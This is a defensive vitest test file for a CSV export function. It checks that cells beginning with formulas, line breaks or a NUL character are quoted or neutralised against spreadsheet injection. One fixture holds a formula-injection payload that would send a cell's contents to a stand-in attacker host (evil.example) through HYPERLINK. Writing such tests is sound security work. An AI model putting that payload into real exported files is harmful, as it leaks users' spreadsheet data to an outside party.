import { text } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvStream } from '../../src/reporting/csv.js';

describe('report CSV', () => {
  it('quotes a cell with a lone line feed or carriage return, so a value cannot start a row with a formula', async () => {
    const csv = await text(csvStream(['sub1', 'clicks'], [{ sub1: 'x\n=1+1', clicks: 1 }, { sub1: 'y\r@SUM(A1)', clicks: 2 }, { sub1: '-2', clicks: -3 }]));
    expect(csv).toBe('sub1,clicks\r\n"x\n=1+1",1\r\n"y\r@SUM(A1)",2\r\n\'-2,-3\r\n');
  });

  it('neutralises a cell starting with a null character too (OWASP ASVS 5.0 V1.2.10: = + - @ tab and NUL)', async () => {
    const csv = await text(csvStream(['sub1'], [{ sub1: '\u0000=HYPERLINK("https://evil.example/?"&A1)' }]));
    expect(csv).toBe('sub1\r\n"\'\u0000=HYPERLINK(""https://evil.example/?""&A1)"\r\n');
  });
});
